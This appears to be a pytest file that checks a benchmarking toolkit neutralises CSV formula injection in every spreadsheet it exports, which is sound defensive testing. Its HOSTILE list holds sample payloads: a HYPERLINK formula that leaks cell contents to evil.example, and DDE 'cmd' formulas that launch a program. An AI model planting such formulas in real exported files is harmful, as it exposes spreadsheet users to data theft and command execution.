"""CSV formula injection (issue 26 finding 9): labels, benchmark names, hosts and parameters that
a spreadsheet would run (``=HYPERLINK(...)``, ``=cmd|...``, ``+``, ``-``, ``@``, tab, CR) reach
every CSV the toolkit writes; each such cell must come out neutralised (a leading ``'``) while
numbers stay numbers. Checked on ``export --csv``, every CSV of ``build`` (status, descriptives,
fingerprints, comparisons, anova, percentiles, failed runs...), ``analyze`` and study tables."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pandas as pd
import pytest
from report_helpers import record, run_cli, write_jsonl

from testbed_shared.safecsv import TRIGGERS, frame_text, is_safe, neutralise, rows_text

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_neutralise_follows_owasp_and_keeps_numbers() -> None:
    for text in HOSTILE:
        assert neutralise(text) == "'" + text and not is_safe(text) and is_safe(neutralise(text))
    for number in (-1, -2.5, 3, 0.0, float("nan"), float("-inf"), "-1.5", "+3e-2", "-7"):
        assert neutralise(number) is number
    for plain in ("Local", "dd_write", "a=b", "", None, "'=already"):
        assert neutralise(plain) == plain
    text = rows_text([[h, -1.5, 2] for h in HOSTILE], header=["=label", "value", "n"])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["'=label", "value", "n"]
    assert all(r[0].startswith("'") and r[1] == "-1.5" and r[2] == "2" for r in rows[1:])
    frame = pd.DataFrame({"label": HOSTILE, "value": [-1.0] * len(HOSTILE), "=col": HOSTILE})
    back = pd.read_csv(io.StringIO(frame_text(frame)))
    assert list(back.columns) == ["label", "value", "'=col"] and back["value"].dtype == float
    assert all(v.startswith("'") for v in back["label"])


def _cells(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


def _hostile_results(tmp: Path) -> list[Path]:
    files = []
    for i, evil in enumerate(HOSTILE[:4]):
        host = f"h{i}"
        recs = []
        for bench in (evil, "dd_write"):
            for r in range(4):
                recs.append(
                    record(
                        host=host,
                        label=evil if i % 2 == 0 else f"plain-{i}",
                        groups=[evil],
                        benchmark=bench,
                        index=0 if bench == evil else 1,
                        repetition=r,
                        params={"bs": evil, "note": HOSTILE[(i + 1) % len(HOSTILE)]},
                        metrics={
                            "write_seconds": {"value": 1.0 + i + r / 100, "unit": "s", "better": "lower"}
                        },
                        status="ok" if r else "failed",
                        error=None if r else evil,
                    )
                )
        files.append(write_jsonl(tmp / "r1" / f"{host}.jsonl", recs))
    return files


def test_every_csv_the_report_writes_is_neutralised(tmp_path: Path) -> None:
    files = _hostile_results(tmp_path)
    out = tmp_path / "report"
    proc = run_cli("build", str(files[0].parent), "--out", str(out))
    assert proc.returncode == 0, proc.stderr
    proc = run_cli("export", str(files[0].parent), "--csv", str(tmp_path / "export.csv"))
    assert proc.returncode == 0, proc.stderr
    csvs = [*sorted(out.glob("*.csv")), tmp_path / "export.csv"]
    names = {p.name for p in csvs}
    assert {"status.csv", "descriptives.csv", "fingerprints.csv", "comparisons.csv", "export.csv"} <= names
    seen_hostile = 0
    for p in csvs:
        for cell in _cells(p):
            assert is_safe(cell), f"{p.name}: {cell!r}"
            seen_hostile += cell[:1] == "'" and cell[1:2] in TRIGGERS
    assert seen_hostile >= 20  # the hostile names really reached the CSVs
    export = pd.read_csv(tmp_path / "export.csv")
    assert pd.api.types.is_float_dtype(export["value"])  # numbers stay numbers


@pytest.mark.parametrize("evil", HOSTILE)
def test_analyze_tables_are_neutralised(tmp_path: Path, evil: str) -> None:
    """A hand-made CSV (not one the toolkit wrote) with a hostile factor level and column name."""
    rows = [
        [evil if g else "base", h, 1.0 + g + h / 3 + r / 10]
        for g in range(2)
        for h in range(2)
        for r in range(4)
    ]
    src = tmp_path / "in.csv"
    pd.DataFrame(rows, columns=["label", "=cmd|x", "value"]).to_csv(src, index=False)
    out = tmp_path / "stats"
    proc = run_cli(
        "analyze", "--csv", str(src), "--metric", "value", "--by", "label,=cmd|x", "--out", str(out)
    )
    assert proc.returncode == 0, proc.stderr
    cells = [c for p in sorted(out.glob("*.csv")) for c in _cells(p)]
    assert cells and all(is_safe(c) for c in cells)
    assert "'" + evil.replace("\r", "\r") in cells or any(c.startswith("'") for c in cells)
